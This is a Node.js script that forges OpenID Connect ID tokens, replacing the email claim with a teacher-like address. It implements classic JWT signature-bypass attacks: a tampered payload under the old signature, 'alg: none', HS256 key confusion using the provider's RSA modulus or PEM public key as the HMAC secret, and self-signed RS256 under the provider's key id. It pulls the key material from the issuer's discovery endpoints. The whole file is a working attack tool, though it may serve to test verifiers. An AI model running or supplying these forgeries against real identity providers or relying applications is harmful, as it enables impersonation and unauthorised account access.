// Changes an ID token (standard input) as a forger would. Usage: node forge.mjs KIND ISSUER < TOKEN
//   payload     another address, the old signature
//   none        alg none, no signature
//   hs256-n     HS256 under the modulus of the provider's RSA key
//   hs256-pem   HS256 under that key in PEM
//   own-key     RS256 by a key of the forger's, with the provider's kid
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';

const [kind, issuer] = process.argv.slice(2);
const [header, payload, signature] = readFileSync(0, 'utf8').trim().split('.');
const about = await (await fetch(`${issuer}/.well-known/openid-configuration`)).json();
const { keys } = await (await fetch(about.jwks_uri)).json();
const rsa = keys.find((key) => key.kty === 'RSA');
const read = (part) => JSON.parse(Buffer.from(part, 'base64url').toString());
const write = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
const hmac = (text, secret) => createHmac('sha256', secret).update(text).digest('base64url');

const other = write({ ...read(payload), email: 'meester@school.nl' });
const hs256 = `${write({ alg: 'HS256', kid: rsa.kid })}.${other}`;
const forms = {
	payload: () => `${header}.${other}.${signature}`,
	none: () => `${write({ alg: 'none' })}.${other}.`,
	'hs256-n': () => `${hs256}.${hmac(hs256, rsa.n)}`,
	'hs256-pem': () => `${hs256}.${hmac(hs256,
		createPublicKey({ key: rsa, format: 'jwk' }).export({ type: 'spki', format: 'pem' }))}`,
	'own-key': () => {
		const text = `${write({ alg: 'RS256', kid: rsa.kid })}.${other}`;
		const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
		return `${text}.${sign('sha256', Buffer.from(text), privateKey).toString('base64url')}`;
	},
};
process.stdout.write(forms[kind]());
